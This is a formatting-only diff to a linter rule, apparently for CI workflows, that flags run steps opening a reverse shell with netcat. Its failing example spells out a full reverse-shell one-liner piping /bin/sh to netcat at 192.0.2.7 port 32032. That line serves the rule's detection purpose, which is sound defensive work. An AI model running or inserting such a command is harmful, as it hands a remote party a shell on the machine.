@@ -18,10 +18,21 @@ export const reverseShell = stepRule({
     const { run } = step;
     if (!(run instanceof Scalar)) return;
     const match = NETCAT.exec(run.text);
-    if (match) report.fail(new Span(run, match.index, match.index + match[0].length), `${step.label} connects with ${match[0]}`);
+    if (match)
+      report.fail(
+        new Span(run, match.index, match.index + match[0].length),
+        `${step.label} connects with ${match[0]}`,
+      );
   },
   examples: {
-    fail: [stepsExample('To an address', '- run: |\n    make\n    cat /tmp/f | /bin/sh -i 2>&1 | netcat 192.0.2.7 32032 > /tmp/f')],
-    pass: [stepsExample('Waits for a service', '- run: until nc -z localhost 5432; do sleep 1; done')],
+    fail: [
+      stepsExample(
+        'To an address',
+        '- run: |\n    make\n    cat /tmp/f | /bin/sh -i 2>&1 | netcat 192.0.2.7 32032 > /tmp/f',
+      ),
+    ],
+    pass: [
+      stepsExample('Waits for a service', '- run: until nc -z localhost 5432; do sleep 1; done'),
+    ],
   },
 });
